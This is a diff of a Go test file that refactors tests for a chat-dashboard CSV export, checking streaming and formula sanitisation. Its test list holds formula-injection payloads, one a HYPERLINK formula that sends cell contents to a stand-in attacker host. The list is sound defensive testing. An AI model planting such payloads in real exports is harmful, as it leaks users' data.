@@ -11,9 +11,12 @@ import (
 	"testing"
 	"time"
 	"unicode"
+
+	"github.com/chatguard/chatguard/internal/web/access"
 )
 
-// taker is who an export is written for. It counts what the export does, and goes away after so many chunks.
+// taker is the receiver of an export. It counts what the export writes and disconnects after the
+// given number of chunks.
 type taker struct {
 	httptest.ResponseRecorder
 	chunks, deadlines int
@@ -32,7 +35,7 @@ func (r *taker) Write(data []byte) (int, error) {
 	return r.ResponseRecorder.Write(data)
 }
 
-// pages returns n pages of one row each, and an error after them if there is one.
+// pages returns n pages of one row each, then err if it is not nil.
 func pages(n int, err error) (next func() ([][]string, error), asked *int) {
 	asked = new(int)
 	return func() ([][]string, error) {
@@ -43,13 +46,14 @@ func pages(n int, err error) (next func() ([][]string, error), asked *int) {
 	}, asked
 }
 
-// TestAnExportIsNeverHeldAsAWhole: page after page goes out, each with time of its own.
-func TestAnExportIsNeverHeldAsAWhole(t *testing.T) {
+// An export goes out page by page, each with its own deadline, and is never held in memory as a
+// whole.
+func TestExport_Streams(t *testing.T) {
 	d := dash(t)
 	request := httptest.NewRequest("GET", "/api/v1/journal", nil)
 	export := func(r *taker, next func() ([][]string, error)) error {
 		r.ResponseRecorder = *httptest.NewRecorder()
-		return d.server.exportCSV(r, request, caller{}, "things", []string{"number"}, next)
+		return d.server.archive.exportCSV(r, request, access.Caller{}, "things", []string{"number"}, next)
 	}
 
 	whole := &taker{patience: 100}
@@ -84,7 +88,7 @@ func TestAnExportIsNeverHeldAsAWhole(t *testing.T) {
 	export(&taker{patience: 100}, next)
 }
 
-func TestCellsAreNoFormulas(t *testing.T) {
+func TestCells_NoFormulas(t *testing.T) {
 	for text, want := range map[string]string{
 		"":            "",
 		"hello":       "hello",
@@ -108,21 +112,22 @@ func TestCellsAreNoFormulas(t *testing.T) {
 	}
 }
 
-// formulas are texts that spreadsheets have taken for formulas, or parts of them.
+// formulas are texts that spreadsheets have read as formulas, or parts of them.
 var formulas = []string{
 	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\u00a0=1", `"=1"`,
 	"hi;=1", `hi;=HYPERLINK("http://evil.example/?"&A1;"click")`, "hi; =1", "hi;;=1", `hi;"=1+1"`, `hi";"=1+1"`, "hi\t=1", "hi\t \"@SUM(A1)\"",
 	"hi\n=1", "hi\r+1", "hi\n;\t -1", "＝1+1", "hi;＠SUM(A1)", ";;;@x;-1\t+1\n=1",
 }
 
-// TestCells_EverySeparator reads the file as spreadsheets do that expect another separator: in most of Europe that is a semicolon.
+// The file is safe in spreadsheets that expect another separator; in most of Europe that is a
+// semicolon.
 func TestCells_EverySeparator(t *testing.T) {
 	d := dash(t)
 	for _, text := range formulas {
 		r := &taker{ResponseRecorder: *httptest.NewRecorder(), patience: 100}
 		rows := [][]string{{cell(text), "7", cell(text), cell(text)}}
 		page := func() (next [][]string, err error) { next, rows = rows, nil; return next, nil }
-		if err := d.server.exportCSV(r, httptest.NewRequest("GET", "/api/v1/journal", nil), caller{}, "things", []string{"a", "b", "c", "d"}, page); err != nil {
+		if err := d.server.archive.exportCSV(r, httptest.NewRequest("GET", "/api/v1/journal", nil), access.Caller{}, "things", []string{"a", "b", "c", "d"}, page); err != nil {
 			t.Fatal(err)
 		}
 		for _, separator := range []rune{',', ';', '\t'} {
@@ -135,8 +140,8 @@ func TestCells_EverySeparator(t *testing.T) {
 	}
 }
 
-// spreadsheet returns the cells of a file as spreadsheets read it, which refuse nothing: quotes count at the beginning of a cell, and what
-// follows them belongs to it.
+// spreadsheet returns the cells of a file as lenient spreadsheets read it: a quote counts only at
+// the start of a cell, and text after the closing quote belongs to the cell.
 func spreadsheet(file string, separator rune) (cells []string) {
 	var c strings.Builder
 	begun, quoted := false, false
@@ -161,7 +166,7 @@ func spreadsheet(file string, separator rune) (cells []string) {
 	return append(cells, c.String())
 }
 
-// table reads an exported file.
+// table parses an exported file.
 func (a answer) table(t testing.TB) [][]string {
 	t.Helper()
 	if kind := a.Header.Get("Content-Type"); kind != "text/csv; charset=utf-8" {
@@ -174,7 +179,7 @@ func (a answer) table(t testing.TB) [][]string {
 	return rows
 }
 
-// column returns the cells below a name.
+// column returns the cells of the column with that name.
 func column(t testing.TB, rows [][]string, name string) (cells []string) {
 	t.Helper()
 	i := slices.Index(rows[0], name)
